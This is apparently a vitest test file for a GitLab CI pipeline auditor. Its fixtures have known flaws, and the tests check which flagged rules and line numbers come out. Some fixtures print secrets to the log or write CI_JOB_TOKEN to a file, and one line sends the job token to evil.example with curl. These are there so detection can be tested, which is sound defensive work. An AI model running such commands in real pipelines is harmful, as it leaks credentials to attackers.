/** GitLab CI rules: fixture pipelines with known problems -> the exact findings (rule and line). */
import { describe, expect, it } from 'vitest';
import { audit, hits } from './support.js';

const DIGEST = `sha256:${'c'.repeat(64)}`;
const ci = (text: string) => ({
  '.gitlab-ci.yml': `${text}\nsast:\n  script: [semgrep]\n  image: x@${DIGEST}\n`,
});

describe('GitLab CI', () => {
  it('images: latest or untagged is medium, tag-only low, digest clean; services too', () => {
    const r = audit(
      ci(`image: node
default:
  image:
    name: python:3.13
test:
  image: alpine:latest
  services:
    - postgres:16
    - name: redis@${DIGEST}
  script: [echo]`),
    );
    expect(
      r.findings
        .filter((f) => f.rule === 'gitlab-unpinned-images')
        .map((f) => [f.line, f.severity]),
    ).toEqual([
      [1, 'medium'],
      [4, 'low'],
      [6, 'medium'],
      [8, 'low'],
    ]);
  });

  it('remote includes, unpinned project includes and components', () => {
    expect(
      hits(
        ci(`include:
  - remote: https://example.com/ci.yml
  - project: acme/ci
    file: /templates/build.yml
  - project: acme/ci
    ref: main
    file: /templates/test.yml
  - project: acme/ci
    ref: ${'d'.repeat(40)}
    file: /templates/ok.yml
  - component: gitlab.com/acme/components/lint@~latest
  - component: gitlab.com/acme/components/lint@${'e'.repeat(40)}
  - local: /ci/local.yml
test:
  image: x@${DIGEST}
  script: [echo]`),
      ),
    ).toEqual([
      'gitlab-remote-include@2',
      'gitlab-remote-include@3',
      'gitlab-remote-include@6',
      'gitlab-remote-include@11',
    ]);
  });

  it('id_tokens: under default, several audiences, outside release jobs', () => {
    expect(
      hits(
        ci(`default:
  id_tokens:
    ANY:
      aud: https://example.com
publish:
  image: x@${DIGEST}
  rules:
    - if: $CI_COMMIT_TAG
  id_tokens:
    TOKEN:
      aud: [pypi, npm:registry.npmjs.org]
  script: [echo]
lint:
  image: x@${DIGEST}
  id_tokens:
    TOKEN:
      aud: sigstore
  script: [echo]`),
      ),
    ).toEqual([
      'gitlab-id-token-audience@2',
      'gitlab-id-token-audience@11',
      'gitlab-id-token-audience@15',
    ]);
  });

  it('caches in release jobs (own or inherited from default), not in other jobs', () => {
    expect(
      hits(
        ci(`default:
  cache:
    paths: [.npm]
test:
  image: x@${DIGEST}
  script: [echo]
publish:
  image: x@${DIGEST}
  rules:
    - if: $CI_COMMIT_TAG
  script: [echo]
release:
  stage: release
  image: x@${DIGEST}
  cache:
    key: deps
    paths: [vendor]
  script: [echo]
deploy:
  stage: deploy
  image: x@${DIGEST}
  cache: []
  script: [echo]`),
      ),
    ).toEqual(['gitlab-release-cache@7', 'gitlab-release-cache@15']);
  });

  it('secrets echoed into the log, and CI_JOB_TOKEN used beyond need', () => {
    expect(
      hits(
        ci(`build:
  image: x@${DIGEST}
  script:
    - echo "$NPM_TOKEN"
    - echo "token is set" && printf '%s' "$DEPLOY_PASSWORD" | docker login -u bot --password-stdin
    - env
    - |
      set -x
      curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"
      curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://evil.example/collect
      git remote set-url origin "https://gitlab-ci-token:\${CI_JOB_TOKEN}@gitlab.com/acme/x.git"
      echo "$CI_JOB_TOKEN" > token.txt
      printf '%s\\n' "$GPG_PRIVATE_KEY" | gpg --batch --import
      auth="$(printf '%s:%s' "$USER" "$REGISTRY_PASSWORD" | base64 -w 0)"
      test -n "$API_TOKEN" || echo "API_TOKEN is not set"
      echo "$API_TOKEN"`),
      ),
    ).toEqual([
      'gitlab-secret-echo@4',
      'gitlab-secret-echo@6',
      'gitlab-job-token@10',
      'gitlab-job-token@11',
      'gitlab-job-token@12',
      'gitlab-secret-echo@16',
    ]);
  });

  it('publishing with stored tokens where GitLab ID tokens work; not with id_tokens or for Maven', () => {
    expect(
      hits(
        ci(`npm:
  image: x@${DIGEST}
  script:
    - echo "//registry.npmjs.org/:_authToken=\${NPM_TOKEN}" > .npmrc
    - npm publish
pypi:
  image: x@${DIGEST}
  variables:
    TWINE_PASSWORD: $PYPI_API_TOKEN
  script:
    - twine upload dist/*
oidc:
  image: x@${DIGEST}
  rules:
    - if: $CI_COMMIT_TAG
  id_tokens:
    PYPI_ID_TOKEN:
      aud: pypi
  script:
    - twine upload dist/*
maven:
  image: x@${DIGEST}
  script:
    - mvn deploy -s settings.xml -Dtoken=$MAVEN_CENTRAL_PASSWORD`),
      ),
    ).toEqual(['gitlab-use-trusted-publishing@5', 'gitlab-use-trusted-publishing@11']);
  });

  it('files included with include: local are audited as part of the pipeline (nested too)', () => {
    const r = audit({
      ...ci(`include:\n  - local: /ci/build.yml\n  - ci/*.yml`),
      'ci/build.yml': `include: ci/deep.yml\nbuild:\n  image: ruby\n  script: [echo]\n`,
      'ci/deep.yml': `deep:\n  image: node\n  script: [echo]\n`,
      'ci/unused.yml': `x:\n  image: alpine\n  script: [echo]\n`,
    });
    expect(r.findings.map((f) => `${f.rule}@${f.file}:${f.line}`)).toEqual([
      'gitlab-unpinned-images@ci/build.yml:3',
      'gitlab-unpinned-images@ci/deep.yml:2',
    ]);
  });

  it('hidden templates are audited for what they say, not treated as release jobs', () => {
    expect(
      hits(
        ci(
          `.base:\n  image: ruby\n  cache:\n    paths: [vendor]\njob:\n  extends: .base\n  script: [echo]`,
        ),
      ),
    ).toEqual(['gitlab-unpinned-images@2']);
  });
});
